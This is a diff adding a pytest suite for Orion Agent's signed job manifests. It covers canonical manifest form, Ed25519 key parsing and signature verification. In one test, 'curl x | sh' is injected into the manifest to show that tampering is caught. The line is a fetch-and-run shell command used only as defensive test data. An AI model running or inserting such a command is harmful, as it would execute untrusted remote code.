@@ -0,0 +1,206 @@
+# Orion Agent
+# Copyright (C) 2025 Phoenix Link (Pty) Ltd. All Rights Reserved.
+#
+# This file is part of Orion Agent.
+#
+# Orion Agent is dual-licensed:
+#
+# 1. Open Source: GNU Affero General Public License v3.0 (AGPL-3.0)
+# 2. Commercial: Available from Phoenix Link (Pty) Ltd
+#
+# Contributions require a signed CLA. See COPYRIGHT.md and CLA.md.
+"""Tests for signed job manifests: canonical form, keys and verification."""
+
+from __future__ import annotations
+
+import base64
+import hashlib
+import importlib.util
+from pathlib import Path
+
+import pytest
+
+from orion.security.jobs.config import SigningConfig, SigningKey
+from orion.security.jobs.manifest import JobSource
+from orion.security.jobs.signing import (
+    SignatureError,
+    canonical_manifest,
+    public_key_bytes,
+    require_pinned_archive,
+    sign_manifest,
+    verify_manifest,
+)
+
+_has_cryptography = importlib.util.find_spec("cryptography") is not None
+requires_cryptography = pytest.mark.skipif(
+    not _has_cryptography, reason="cryptography is not installed"
+)
+
+_MANIFEST = "stack: go\ncommand: go test ./...\nenv:\n  CGO_ENABLED: '0'\n  GOFLAGS: -mod=mod\n"
+_KEY = bytes(range(32))
+_OTHER = bytes(range(1, 33))
+
+
+def _b64(data: bytes) -> str:
+    return base64.b64encode(data).decode()
+
+
+def _pem(raw: bytes) -> str:
+    der = bytes.fromhex("302a300506032b6570032100") + raw
+    return f"-----BEGIN PUBLIC KEY-----\n{_b64(der)}\n-----END PUBLIC KEY-----\n"
+
+
+def _fake_sign(public: bytes, text: str) -> str:
+    return _b64(hashlib.sha256(public + canonical_manifest(text)).digest())
+
+
+@pytest.fixture
+def fake_ed25519(monkeypatch):
+    """A stand-in for Ed25519: the signature is sha256(public key + data)."""
+    monkeypatch.setattr(
+        "orion.security.jobs.signing._verify",
+        lambda public, signature, data: signature == hashlib.sha256(public + data).digest(),
+    )
+
+
+def _config(**keys: SigningKey) -> SigningConfig:
+    return SigningConfig(enabled=True, keys=keys)
+
+
+class TestCanonicalManifest:
+    def test_formatting_and_key_order_do_not_matter(self):
+        reordered = (
+            '{"env": {"GOFLAGS": "-mod=mod", "CGO_ENABLED": "0"},\n'
+            '  "command": "go test ./...", "stack": "go"}'
+        )
+        assert canonical_manifest(reordered) == canonical_manifest(_MANIFEST)
+
+    def test_compact_sorted_json(self):
+        assert canonical_manifest("stack: go\ncommand: make\nname: café\n") == (
+            '{"command":"make","name":"café","stack":"go"}'.encode()
+        )
+
+    def test_values_matter(self):
+        assert canonical_manifest("stack: go\ncommand: make\n") != canonical_manifest(
+            "stack: go\ncommand: make test\n"
+        )
+
+    def test_invalid_yaml(self):
+        with pytest.raises(SignatureError, match="Invalid manifest YAML"):
+            canonical_manifest("stack: [go\n")
+
+
+class TestPublicKey:
+    def test_base64_and_pem(self):
+        assert public_key_bytes(_b64(_KEY)) == _KEY
+        assert public_key_bytes(_pem(_KEY)) == _KEY
+
+    @pytest.mark.parametrize(
+        "text, message",
+        [
+            ("not base64!", "not valid base64"),
+            (_b64(b"short"), "32 bytes, not 5"),
+            (
+                "-----BEGIN PUBLIC KEY-----\n" + _b64(b"\x30" * 44) + "\n-----END PUBLIC KEY-----",
+                "not an Ed25519 public key",
+            ),
+        ],
+    )
+    def test_invalid(self, text, message):
+        with pytest.raises(ValueError, match=message):
+            public_key_bytes(text)
+
+
+class TestVerify:
+    def test_disabled_accepts_anything(self):
+        assert verify_manifest(SigningConfig(), _MANIFEST, "") == ""
+        assert verify_manifest(SigningConfig(), _MANIFEST, "garbage", "nope") == ""
+
+    def test_unsigned_refused(self):
+        with pytest.raises(SignatureError, match="not signed"):
+            verify_manifest(_config(ci=SigningKey(public_key=_b64(_KEY))), _MANIFEST, "")
+
+    def test_signed_by_named_key(self, fake_ed25519):
+        config = _config(ci=SigningKey(public_key=_b64(_KEY)))
+        assert verify_manifest(config, _MANIFEST, _fake_sign(_KEY, _MANIFEST), "ci") == "ci"
+
+    def test_each_key_tried_without_key_id(self, fake_ed25519, tmp_path: Path):
+        (tmp_path / "release.pub").write_text(_pem(_OTHER))
+        config = _config(
+            ci=SigningKey(public_key=_b64(_KEY)),
+            release=SigningKey(public_key_file=str(tmp_path / "release.pub")),
+        )
+        assert verify_manifest(config, _MANIFEST, _fake_sign(_OTHER, _MANIFEST)) == "release"
+
+    def test_reformatted_manifest_still_verifies(self, fake_ed25519):
+        config = _config(ci=SigningKey(public_key=_b64(_KEY)))
+        signature = _fake_sign(_KEY, _MANIFEST)
+        as_json = (
+            '{"stack": "go", "command": "go test ./...",'
+            ' "env": {"GOFLAGS": "-mod=mod", "CGO_ENABLED": "0"}}'
+        )
+        assert verify_manifest(config, as_json, signature) == "ci"
+
+    def test_tampered_manifest_refused(self, fake_ed25519):
+        config = _config(ci=SigningKey(public_key=_b64(_KEY)))
+        signature = _fake_sign(_KEY, _MANIFEST)
+        with pytest.raises(SignatureError, match="does not verify against any"):
+            verify_manifest(config, _MANIFEST.replace("go test", "curl x | sh; go test"), signature)
+
+    def test_wrong_key_refused(self, fake_ed25519):
+        config = _config(
+            ci=SigningKey(public_key=_b64(_KEY)), other=SigningKey(public_key=_b64(_OTHER))
+        )
+        with pytest.raises(SignatureError, match="does not verify against key 'ci'"):
+            verify_manifest(config, _MANIFEST, _fake_sign(_OTHER, _MANIFEST), "ci")
+
+    def test_unknown_key_id(self, fake_ed25519):
+        config = _config(ci=SigningKey(public_key=_b64(_KEY)))
+        with pytest.raises(SignatureError, match="Unknown signing key 'prod'"):
+            verify_manifest(config, _MANIFEST, _fake_sign(_KEY, _MANIFEST), "prod")
+
+    def test_signature_not_base64(self, fake_ed25519):
+        config = _config(ci=SigningKey(public_key=_b64(_KEY)))
+        with pytest.raises(SignatureError, match="not valid base64"):
+            verify_manifest(config, _MANIFEST, "%%%")
+
+    def test_unreadable_key_file_skipped(self, fake_ed25519, tmp_path: Path):
+        config = _config(
+            broken=SigningKey(public_key_file=str(tmp_path / "gone.pub")),
+            ci=SigningKey(public_key=_b64(_KEY)),
+        )
+        assert verify_manifest(config, _MANIFEST, _fake_sign(_KEY, _MANIFEST)) == "ci"
+
+    def test_archive_must_be_pinned(self):
+        with pytest.raises(SignatureError, match="source.sha256"):
+            require_pinned_archive(JobSource(archive=True))
+        require_pinned_archive(JobSource(archive=True, sha256="a" * 64))
+        require_pinned_archive(JobSource(git="https://example.com/api.git"))
+
+    def test_pinned_digest_is_signed(self, fake_ed25519):
+        config = _config(ci=SigningKey(public_key=_b64(_KEY)))
+        pinned = f"stack: go\ncommand: make\nsource:\n  type: archive\n  sha256: {'a' * 64}\n"
+        signature = _fake_sign(_KEY, pinned)
+        assert verify_manifest(config, pinned, signature) == "ci"
+        with pytest.raises(SignatureError, match="does not verify"):
+            verify_manifest(config, pinned.replace("a" * 64, "b" * 64), signature)
+
+    @requires_cryptography
+    def test_ed25519_round_trip(self):
+        from cryptography.hazmat.primitives import serialization
+        from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
+
+        private = Ed25519PrivateKey.generate()
+        pem = private.private_bytes(
+            serialization.Encoding.PEM,
+            serialization.PrivateFormat.PKCS8,
+            serialization.NoEncryption(),
+        )
+        public = private.public_key().public_bytes(
+            serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo
+        )
+        config = _config(ci=SigningKey(public_key=public.decode()))
+        signature = sign_manifest(_MANIFEST, pem)
+        assert verify_manifest(config, _MANIFEST, signature) == "ci"
+        with pytest.raises(SignatureError):
+            verify_manifest(config, _MANIFEST + "timeout: 1h\n", signature)